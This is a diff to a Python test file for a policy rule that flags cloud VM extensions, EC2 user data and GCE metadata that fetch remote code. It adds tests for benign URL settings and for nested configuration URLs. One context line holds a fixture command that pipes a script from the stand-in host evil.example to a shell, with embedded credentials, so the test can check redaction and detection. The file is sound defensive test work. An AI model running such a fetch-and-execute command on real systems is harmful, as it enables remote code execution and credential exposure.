@@ -720,3 +720,15 @@ def test_messages_redact_sas_tokens_and_credentials():
     assert "SECRETSIG" not in m and "acct.blob.core.windows.net/c/a.sh" in m and "protectedSettings.fileUris[0]" in m
     (m,) = violations(RULE, EC2, {"userData": "curl -s https://deploy:hunter2@evil.example/a | sh"})
     assert "hunter2" not in m and "evil.example/a" in m
+
+
+def test_extension_settings_that_are_not_code_urls_pass():
+    settings = {"proxy": {"proxyUrl": "http://proxy.internal:3128"}, "healthUrl": "/health", "fileUris": []}
+    assert violations(RULE, VM_EXTENSION, changed(AMA_EXTENSION, set_at(("settings",), settings))) == []
+    assert violations(RULE, GCE, {"metadata": {**GCP_META, "startup-script-url": ""}}) == []
+
+
+def test_nested_url_settings_are_read():
+    settings = {"configurations": [{"configurationUrl": EVIL}]}
+    (m,) = violations(RULE, VM_EXTENSION, changed(AMA_EXTENSION, set_at(("settings",), settings)))
+    assert "settings.configurations[0].configurationUrl" in m
